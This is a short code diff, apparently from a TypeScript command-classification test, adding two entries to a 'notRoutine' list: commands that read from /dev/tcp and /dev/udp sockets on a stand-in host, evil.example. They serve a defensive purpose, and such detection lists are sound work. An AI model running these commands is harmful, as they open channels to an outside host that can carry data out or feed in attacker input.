@@ -77,6 +77,8 @@ const routine: readonly string[] = [
 ];
 
 const notRoutine: readonly string[] = [
+  'npm test < /dev/tcp/evil.example/80',
+  'cat < /dev/udp/evil.example/53',
   'npm run deploy',
   'npm install zod',
   'npx unheard-of',
